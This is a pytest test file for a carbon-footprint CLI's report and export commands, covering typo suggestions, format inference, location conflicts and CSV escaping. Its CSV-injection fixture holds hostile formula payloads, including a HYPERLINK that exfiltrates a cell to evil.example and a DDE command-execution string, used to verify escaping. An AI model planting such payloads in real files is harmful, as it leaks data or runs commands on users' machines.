"""Names and filters: unknown names get close matches, a filter never yields an empty result silently, a
report's format follows its file name, places that contradict each other are refused, CSV cells are inert."""

from __future__ import annotations

import csv
import io
import json

import pytest
from cli_helpers import assert_one_error, make_record
from hypothesis import given, settings
from hypothesis import strategies as st

from wattprint.store.sqlite import Store


# ---- report -------------------------------------------------------------------------------------
def test_report_unknown_task_suggests_close_matches(cli, store_path, tmp_path):
    out = tmp_path / "r.html"
    code, _, err = cli("report", "--store", str(store_path), "--task", "text-clasification", "-o", str(out))
    assert_one_error(code, err, "unknown task 'text-clasification'; did you mean 'text-classification'")
    assert not out.exists()


def test_report_task_without_runs_is_an_error_not_an_empty_report(cli, store_path, tmp_path):
    out = tmp_path / "r.html"
    code, _, err = cli("report", "--store", str(store_path), "--task", "foo", "-o", str(out))
    assert_one_error(code, err, "unknown task 'foo'")
    code, _, err = cli("report", "--store", str(store_path), "--task", "fill-mask", "-o", str(out))
    assert_one_error(code, err, "has no finished run of fill-mask", "tasks in it: text-classification")
    assert not out.exists()


def test_report_counts_the_runs_it_shows(cli, store_path, tmp_path):
    with Store(store_path) as s:
        s.add(make_record("token-classification", "distilbert-ner", 10.0, inferences=100))
    out = tmp_path / "r.json"
    code, _, err = cli("report", "--store", str(store_path), "--task", "ner", "-o", str(out))
    assert code == 0 and "(json, 1 finished runs" in err  # the alias resolves; 1 of the 4 finished runs
    assert {r["model"] for r in json.loads(out.read_text())["rows"]} == {"distilbert-ner"}


def test_report_empty_store_is_an_error(cli, tmp_path):
    db = tmp_path / "empty.db"
    Store(db).close()
    code, _, err = cli("report", "--store", str(db), "-o", str(tmp_path / "r.html"))
    assert_one_error(code, err, "has no finished runs")


@pytest.mark.parametrize("name, first", [("r.md", "# "), ("r.csv", "task,"), ("r.json", "{"), ("r.html", "<!")])
def test_report_format_follows_the_file_suffix(cli, store_path, tmp_path, name, first):
    out = tmp_path / name
    code, _, err = cli("report", "--store", str(store_path), "-o", str(out))
    assert code == 0, err
    assert out.read_text().lstrip().startswith(first)


@pytest.mark.parametrize("argv, needle", [
    (["--format", "html", "-o", "x.md"], "--format html contradicts -o"),
    (["--format", "json", "-o", "x.csv"], "--format json contradicts -o"),
    (["-o", "report.txt"], "cannot tell the report format of"),
])
def test_report_format_and_suffix_must_agree(cli, store_path, tmp_path, monkeypatch, argv, needle):
    monkeypatch.chdir(tmp_path)
    code, _, err = cli("report", "--store", str(store_path), *argv)
    assert_one_error(code, err, needle)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["w.db"]


def test_codecarbon_format_may_write_a_csv_name(cli, store_path, tmp_path):
    out = tmp_path / "emissions.csv"
    assert cli("report", "--store", str(store_path), "--format", "codecarbon", "-o", str(out))[0] == 0
    assert "emissions" in out.read_text().splitlines()[0]


# ---- export filters -----------------------------------------------------------------------------
def test_export_model_typo_suggests_the_stored_models(cli, store_path, tmp_path):
    out = tmp_path / "x.csv"
    code, _, err = cli("export", "--store", str(store_path), "--model", "distilbert-sst", "-o", str(out))
    assert_one_error(code, err, "unknown model in the store 'distilbert-sst'; did you mean 'distilbert-sst2'")
    assert not out.exists()


def test_export_task_typo_and_task_not_stored(cli, store_path, tmp_path):
    out = tmp_path / "x.csv"
    code, _, err = cli("export", "--store", str(store_path), "--task", "text-clasification", "-o", str(out))
    assert_one_error(code, err, "did you mean 'text-classification'")
    code, _, err = cli("export", "--store", str(store_path), "--task", "summarization", "-o", str(out))
    assert_one_error(code, err, "the store has no run of task 'summarization'", "text-classification")
    code, _, err = cli("export", "--store", str(store_path), "--task", "asr", "-o", str(out))
    assert_one_error(code, err, "the store has no run of task 'automatic-speech-recognition'")
    assert not out.exists()


def test_export_filters_that_match(cli, store_path, tmp_path):
    out = tmp_path / "x.csv"
    code, stdout, err = cli("export", "--store", str(store_path), "--model", "distilbert-sst2", "-o", str(out))
    assert code == 0 and "wrote 2 run(s)" in err and stdout == ""  # a note on stderr, as report and import
    assert [r["model"] for r in csv.DictReader(out.open())] == ["distilbert-sst2"] * 2
    code, stdout, err = cli("export", "--store", str(store_path), "--task", "fill-mask", "--status", "all",
                            "-o", str(out))
    assert code == 0 and "wrote 1 run(s)" in err and stdout == ""


# ---- places -------------------------------------------------------------------------------------
def test_country_and_region_of_another_country_conflict(cli):
    code, out, err = cli("carbon", "--kwh", "1", "--country", "FR", "--region", "US-CA")
    assert_one_error(code, err, "country FR (flag --country) and region US-CA (flag --region) disagree",
                     "keep one")
    assert out == ""


def test_country_and_its_own_region_agree(cli):
    for argv in (["--country", "US", "--region", "US-CA"], ["--country", "CA", "--region", "QC"]):
        code, out, _ = cli("carbon", "--kwh", "1", *argv, "--json", "-")
        assert code == 0 and json.loads(out)["location"]["zone"] in ("US-CA", "CA-QC")


def test_conflict_in_the_environment_names_the_variables(cli, monkeypatch):
    monkeypatch.setenv("WATTPRINT_COUNTRY", "DE")
    monkeypatch.setenv("WATTPRINT_REGION", "CA-QC")
    code, _, err = cli("carbon", "--kwh", "1")
    assert_one_error(code, err, "env WATTPRINT_COUNTRY", "env WATTPRINT_REGION")


# ---- CSV formula injection ----------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_store(tmp_path):
    db = tmp_path / "h.db"
    with Store(db) as s:
        for i, name in enumerate(HOSTILE):
            s.add(make_record("text-classification", name, 100.0 + i, inferences=100, dataset="-1.5",
                              started_at=1_780_000_000.0 + i))
    return db


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("how", ["export", "report-csv", "report-codecarbon"])
def test_csv_cells_that_look_like_formulas_are_inert(cli, hostile_store, tmp_path, how):
    out = tmp_path / "out.csv"
    argv = {"export": ["export", "--store", str(hostile_store), "-o", str(out)],
            "report-csv": ["report", "--store", str(hostile_store), "-o", str(out)],
            "report-codecarbon": ["report", "--store", str(hostile_store), "--format", "codecarbon", "-o", str(out)]}
    assert cli(*argv[how])[0] == 0
    with out.open(encoding="utf-8", newline="") as f:
        cells = _cells(f.read())
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _is_number(c))]
    assert risky == []
    models = {c for c in cells if c.lstrip("'") in HOSTILE}
    assert models == {"'" + h for h in HOSTILE}  # kept, readable, prefixed with '


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_plain_numbers_are_not_escaped():
    from wattprint.store.export import safe_cell

    assert [safe_cell(v) for v in ("-1.5", "-3", "+2e-3", -4.0, 7)] == ["-1.5", "-3", "+2e-3", -4.0, 7]
    assert safe_cell("-1+2") == "'-1+2"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), min_size=1, max_size=5))
def test_escaped_csv_reads_back_as_the_safe_cells(rows):
    from wattprint.store.export import escape_csv_text, safe_cell

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)  # as the report writes: "\n", "\r" maybe unquoted
    out = escape_csv_text(buf.getvalue())
    back = list(csv.reader(io.StringIO(out, newline="")))
    want = [[safe_cell(c) for c in row] for row in rows]
    assert back == want
    if all(safe_cell(c) == c and "\r" not in c for row in rows for c in row):
        assert out == buf.getvalue()  # nothing to escape: the text is unchanged, byte for byte
    for cell in (c for row in back for c in row):
        formula_like = cell.startswith(("=", "+", "@", "\t", "\r")) and safe_cell(cell) != cell
        assert not formula_like  # text that starts like a formula came back escaped; plain numbers ("+0") as they are
